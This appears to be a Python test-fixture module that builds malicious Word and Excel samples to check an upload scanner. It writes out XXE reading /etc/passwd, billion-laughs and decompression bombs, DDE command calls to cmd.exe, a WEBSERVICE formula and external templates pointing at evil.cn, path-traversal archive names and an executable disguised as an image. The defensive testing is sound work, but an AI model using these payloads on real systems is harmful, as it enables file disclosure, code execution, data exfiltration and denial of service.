"""Word and Excel files of the corpus."""

from collections.abc import Iterator

from tests.uploads import making as make
from tests.uploads.making import WORD, docx, field, xlsx
from tests.uploads.sample import Sample

XXE = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)
PROGRAM = b"MZ" + b"\0" * 200


def word_files() -> Iterator[Sample]:
    """Word files that run, fetch or break."""
    macro = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}
    yield Sample("macros", "a.docx", lambda: docx(extra=dict(macro)), "active")
    enabled = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield Sample("a docm by another name", "a.docx", lambda: docx(main=enabled), "active")
    template = f"{WORD}.template.main+xml"
    yield Sample("a template", "a.docx", lambda: docx(main=template), "active")
    yield Sample("outside entity", "a.docx", lambda: docx(doctype=XXE), "xml_entities")
    yield Sample("billion laughs", "a.docx", lambda: docx(doctype=LAUGHS), "xml_entities")
    yield Sample("a DTD", "a.docx", lambda: docx(doctype="<!DOCTYPE w>"), "xml_entities")
    yield Sample("DDE", "a.docx", lambda: docx(field(r'DDEAUTO c:\\cmd.exe "/k calc"')), "active")
    yield Sample("DDE in pieces", "a.docx", lambda: docx(field("DD", "EAU", "TO cmd")), "active")
    simple = '<w:p><w:fldSimple w:instr=" DDE cmd "/></w:p>'
    yield Sample("DDE as an attribute", "a.docx", lambda: docx(simple), "active")
    fetch = field('INCLUDEPICTURE "https://evil.cn/a.png"')
    yield Sample("a picture from outside", "a.docx", lambda: docx(fetch), "active")
    outside = {
        "a template from outside": ("attachedTemplate", "https://evil.cn/a.dotm"),
        "an object from outside": ("oleObject", "https://evil.cn/a.doc"),
        "a picture relation from outside": ("image", "https://evil.cn/a.png"),
        "a frame from outside": ("frame", "https://evil.cn/"),
        "a share of a network": ("hyperlink", "file://evil/share"),
        "a script as a link": ("hyperlink", "javascript:alert(1)"),
    }
    for what, (kind, target) in outside.items():
        rels = {"word/_rels/document.xml.rels": make.relations((kind, target, "External"))}
        yield Sample(what, "a.docx", lambda rels=rels: docx(extra=dict(rels)), "active")


def word_archives() -> Iterator[Sample]:
    """Word files that carry something, and archives that are not what they say."""
    carried = {
        "an object": "word/embeddings/oleObject1.bin",
        "ActiveX": "word/activeX/activeX1.xml",
        "an archive": "word/media/a.zip",
        "a document": "word/embeddings/a.docx",
        "a page": "word/afchunk.html",
        "a program": "word/media/a.exe",
    }
    for what, part in carried.items():
        extra: dict[str, bytes | str] = {part: b"<x/>"}
        yield Sample(f"carries {what}", "a.docx", lambda extra=extra: docx(extra=extra), "active")
    hidden: dict[str, bytes | str] = {"word/media/image1.png": PROGRAM}
    yield Sample("a program as its picture", "a.docx", lambda: docx(extra=dict(hidden)), "active")
    climbing: dict[str, bytes | str] = {"../../evil.xml": "<x/>"}
    yield Sample("a part that climbs", "a.docx", lambda: docx(extra=dict(climbing)), "damaged")
    yield Sample("a symbolic link", "a.docx", make.symlink_archive, "damaged")
    yield Sample("a name twice", "a.docx", make.twice_named, "damaged")
    yield Sample("an encrypted part", "a.docx", lambda: make.encrypted_flag(docx()), "encrypted")
    yield Sample("half an archive", "a.docx", lambda: docx()[:400], "damaged")
    broken = docx("<w:unclosed>")
    yield Sample("broken XML", "a.docx", lambda: broken, "damaged")


def excel_files() -> Iterator[Sample]:
    """Excel files that run, fetch, break or swell."""
    call = "=cmd|'/c calc'!A0"
    yield Sample("DDE in a formula", "a.xlsx", lambda: xlsx(call), "active")
    fetch = '=WEBSERVICE("https://evil.cn/"&A1)'
    yield Sample("a formula that fetches", "a.xlsx", lambda: xlsx(1, fetch), "active")
    parts: dict[str, bytes | str] = {
        "xl/vbaProject.bin": b"x",
        "xl/externalLinks/externalLink1.xml": "<x/>",
        "xl/connections.xml": "<x/>",
        "xl/macrosheets/sheet1.xml": "<x/>",
        "xl/embeddings/oleObject1.bin": b"x",
        "customUI/customUI.xml": "<x/>",
    }
    for part, content in parts.items():
        extra = {part: content}
        yield Sample(
            f"carries {part}",
            "a.xlsx",
            lambda extra=extra: make.with_parts(xlsx(), extra),
            "active",
        )


def excel_bombs() -> Iterator[Sample]:
    """Excel files that swell."""
    yield Sample(
        "outside entity",
        "a.xlsx",
        lambda: make.with_parts(xlsx(), {"xl/x.xml": f"{XXE}<a/>"}),
        "xml_entities",
    )
    bomb: dict[str, bytes | str] = {
        "xl/worksheets/sheet2.xml": b"<a>" + b" " * 100_000_000 + b"</a>"
    }
    yield Sample(
        "97 kB that become 100 MB", "a.xlsx", lambda: make.with_parts(xlsx(), bomb), "bomb"
    )
    liar = {"xl/media/image1.png": b"\0" * 3_000_000}
    yield Sample(
        "a part that is larger than it says",
        "a.xlsx",
        lambda: make.lying_size(make.with_parts(xlsx(), dict(liar)), "xl/media/image1.png", 1000),
        "damaged",
    )
    many: dict[str, bytes | str] = {f"xl/media/{number}.png": b"x" for number in range(2100)}
    yield Sample("too many parts", "a.xlsx", lambda: make.with_parts(xlsx(), many), "bomb")
